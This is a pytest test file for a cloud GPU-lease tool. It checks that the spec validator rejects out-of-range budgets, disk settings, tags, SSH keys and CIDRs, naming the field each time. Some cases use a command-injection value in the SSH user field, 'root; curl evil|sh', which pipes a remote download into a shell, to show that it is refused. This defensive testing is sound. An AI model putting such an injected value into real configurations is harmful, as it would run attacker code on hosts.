"""Values a cloud would refuse are refused by the spec first, naming the field and what is accepted, and a stack
holding one registers nothing."""

from __future__ import annotations

import ipaddress

import pytest

from components.spec.load import SpecError, load_stack_spec
from gpulease.review.mocks import CloudMocks
from tests.support.alicloud import ali_experiment, render_ali
from tests.support.clock import FIXED_NOW
from tests.support.specs import ALI_PUBLIC_KEY, experiment, render_experiment

EXP = "gpulease:experiment"
SSH = experiment()["ssh"]
RSA_1024 = (
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDGVcaOc5ZkX9hxXl6mzTqgmZ6ZAX0c2D2nb8N5FdGCZTq8j2gTz5GqrD7Gd+UOzJQL7X"
    "p5wN5nLx0u3ngtQ+l0rZbNVHnzvV8I5SRXx0NF3eBcPa9qNVDXJx9jrWBexLqR5Cyt0C+7zC6VgY4m8pHg4Q1gVa7cqSc1C4bY3o3sMQ=="
)


def _cidrs(*cidrs: str) -> dict:
    return {**SSH, "allowedCidrs": list(cidrs)}


REFUSED: list[tuple[str, dict, str, str]] = [
    # (case, spec, field path, a phrase of the message)
    ("budget inf", experiment(budgetUsd=float("inf")), "budgetUsd", "finite number"),
    ("budget nan", experiment(budgetUsd=float("nan")), "budgetUsd", "finite number"),
    ("spot cap inf", experiment(maxSpotPriceUsd=float("inf")), "maxSpotPriceUsd", "finite number"),
    ("spot cap tiny", experiment(maxSpotPriceUsd=1e-9), "maxSpotPriceUsd", "greater than or equal to 0.001"),
    ("spot cap absurd", experiment(maxSpotPriceUsd=50000), "maxSpotPriceUsd", "less than or equal to 1000"),
    ("gpu memory nan", experiment(gpu={"gpuMemoryGb": float("nan")}), "gpu.gpuMemoryGb", "finite number"),
    ("expiresAt year 9999", experiment(expiresAt="9999-12-31T23:59:59-05:00"), "expiresAt", "years 2000-2999"),
    ("expiresAt year 0001", experiment(expiresAt="0001-01-01T00:00:00+05:00"), "expiresAt", "years 2000-2999"),
    ("aws runtime 36 s", experiment(maxRuntimeHours=0.01), "maxRuntimeHours", "accepted on aws: 0.25 or more"),
    ("runtime under the final sync", experiment(maxRuntimeHours=0.5, watchdog={"finalSyncMinutes": 30}),
     "maxRuntimeHours", "watchdog.finalSyncMinutes (30)"),
    ("51 aws tags", experiment(tags={f"k{i}": "v" for i in range(40)}), "tags", "exceed the 50 tags aws allows"),
    ("owner over 256", experiment(owner="a" * 250 + "@example.com"), "owner", "accepted on aws: up to 256"),
    ("checkpoint uri over 256", experiment(checkpoints={"prefix": "p" * 200 + "/"}), "checkpoints.prefix",
     "gpulease:checkpoint-uri"),
    ("io2 without iops", experiment(dataDisk={"type": "io2"}), "dataDisk.iops", "is required for io2"),
    ("io1 over 50 per GiB", experiment(dataDisk={"type": "io1", "iops": 10000, "sizeGb": 100}), "dataDisk.iops",
     "50 IOPS per GiB"),
    ("gp3 iops 100", experiment(dataDisk={"type": "gp3", "iops": 100}), "dataDisk.iops", "accepted: 3000-80000"),
    ("gp3 throughput over its iops", experiment(dataDisk={"throughput": 1000}), "dataDisk.throughput",
     "0.25 MiB/s per IOPS"),
    ("st1 at 10 GiB", experiment(dataDisk={"type": "st1", "sizeGb": 10}), "dataDisk.sizeGb", "accepted: 125-16384"),
    ("200 ssh cidrs", experiment(ssh=_cidrs(*(f"198.51.{i // 250}.{i % 250}/32" for i in range(200)))),
     "ssh.allowedCidrs", "60 per address family"),
    ("zone-scoped ipv6", experiment(ssh=_cidrs("fe80::1%eth0/128")), "ssh.allowedCidrs", "has a zone"),
    ("ssh-rsa A", experiment(ssh={**SSH, "publicKey": "ssh-rsa A"}), "ssh.publicKey", "not a valid ssh-rsa key"),
    ("truncated ed25519", experiment(ssh={**SSH, "publicKey": SSH["publicKey"][:60]}), "ssh.publicKey",
     "not a valid ssh-ed25519 key"),
    ("rsa 1024", experiment(ssh={**SSH, "publicKey": RSA_1024}), "ssh.publicKey", "at least 2048 bits"),
    ("ecdsa on aws", experiment(ssh={**SSH, "publicKey": ALI_PUBLIC_KEY}), "ssh.publicKey",
     "accepted on aws: ssh-rsa, ssh-ed25519"),
    ("shell in user", experiment(ssh={**SSH, "user": "root; curl evil|sh"}), "ssh.user", "not a user name"),
    ("empty user", experiment(ssh={**SSH, "user": ""}), "ssh.user", "not a user name"),
    ("ed25519 on alicloud", ali_experiment(ssh={**SSH}), "ssh.publicKey",
     "ssh-ed25519 keys are refused by Alibaba Cloud's ImportKeyPair; accepted on alicloud: ssh-rsa, ecdsa"),
    ("alicloud runtime 0.5", ali_experiment(maxRuntimeHours=0.5), "maxRuntimeHours", "accepted on alicloud: 0.75"),
    ("alicloud PL2 at 100 GiB", ali_experiment(dataDisk={"performanceLevel": "PL2"}), "dataDisk.sizeGb",
     "cloud_essd at PL2; accepted: 461-65536"),
    ("alicloud iops", ali_experiment(dataDisk={"iops": 5000}), "dataDisk.iops", "performanceLevel"),
]


@pytest.mark.parametrize(("case", "spec", "field", "phrase"), REFUSED, ids=[c[0] for c in REFUSED])
def test_values_the_cloud_would_refuse_are_refused_naming_the_field(monkeypatch, case, spec, field, phrase):
    monkeypatch.setattr("gpulease.core.clock.utcnow", lambda: FIXED_NOW)
    with pytest.raises(SpecError) as err:
        load_stack_spec("hostile", {EXP: spec})
    message = str(err.value)
    assert f"  - {EXP}.{field}: " in message and phrase in message, message
    assert "Traceback" not in message


@pytest.mark.parametrize("prefix", [16, 20, 32, 40, 47])
def test_ipv6_ssh_sources_wider_than_a_48_are_refused(prefix):
    network = str(ipaddress.ip_network(f"2001:db8:1234::/{prefix}", strict=False))
    with pytest.raises(SpecError) as err:
        load_stack_spec("s", {EXP: experiment(ssh=_cidrs(network))})
    assert f"{EXP}.ssh.allowedCidrs: [0] '{network}' would open SSH to too many addresses" in str(err.value)
    assert load_stack_spec("s", {EXP: experiment(ssh=_cidrs("2001:db8::/48"))}).base.ssh.allowed_cidrs == ["2001:db8::/48"]


def test_the_limits_are_exact_at_their_edges(monkeypatch):
    monkeypatch.setattr("gpulease.core.clock.utcnow", lambda: FIXED_NOW)
    ok = [
        experiment(maxRuntimeHours=0.25),
        experiment(tags={f"k{i}": "v" for i in range(39)}),
        experiment(dataDisk={"type": "io2", "iops": 100000, "sizeGb": 100}),
        experiment(dataDisk={"type": "gp3", "iops": 4000, "throughput": 1000}),
        experiment(dataDisk={"type": "st1", "sizeGb": 125}),
        experiment(ssh=_cidrs(*(f"198.51.100.{i}/32" for i in range(60)))),
        experiment(maxSpotPriceUsd=0.001),
        ali_experiment(maxRuntimeHours=0.75),
        ali_experiment(dataDisk={"performanceLevel": "PL2", "sizeGb": 461}),
    ]
    for spec in ok:
        load_stack_spec("edge", {EXP: spec})


def test_a_refused_value_registers_nothing():
    for rendering in (
        render_experiment(experiment(ssh={**SSH, "user": "root; curl evil|sh"})),
        render_experiment(experiment(budgetUsd=float("inf"))),
        render_ali(ali_experiment(ssh={**SSH})),
    ):
        assert rendering.resources == [] and "Nothing was created" in rendering.error


def test_a_pinned_zone_other_than_the_existing_disks_is_an_error():
    volume = "vol-0123456789abcdef0"
    spec = experiment(dataDisk={"existingVolumeId": volume}, network={"availabilityZone": "us-east-1b"})
    r = render_experiment(spec, mocks=CloudMocks(region="us-east-1", existing_volumes={volume: "us-east-1a"}, now=FIXED_NOW))
    assert not [x for x in r.resources if x.custom]
    assert "network.availabilityZone: us-east-1b differs from the zone of dataDisk.existingVolumeId" in r.error
    assert "accepted: us-east-1a" in r.error


def test_an_existing_disk_in_another_region_is_named_as_such():
    volume = "vol-0123456789abcdef0"
    r = render_experiment(experiment(dataDisk={"existingVolumeId": volume}), region="us-west-2",
                          mocks=CloudMocks(region="us-west-2", existing_volumes={volume: "us-east-1a"}, now=FIXED_NOW))
    assert not [x for x in r.resources if x.custom]
    assert f"dataDisk.existingVolumeId: {volume} is in us-east-1a, not in the stack's region us-west-2" in r.error
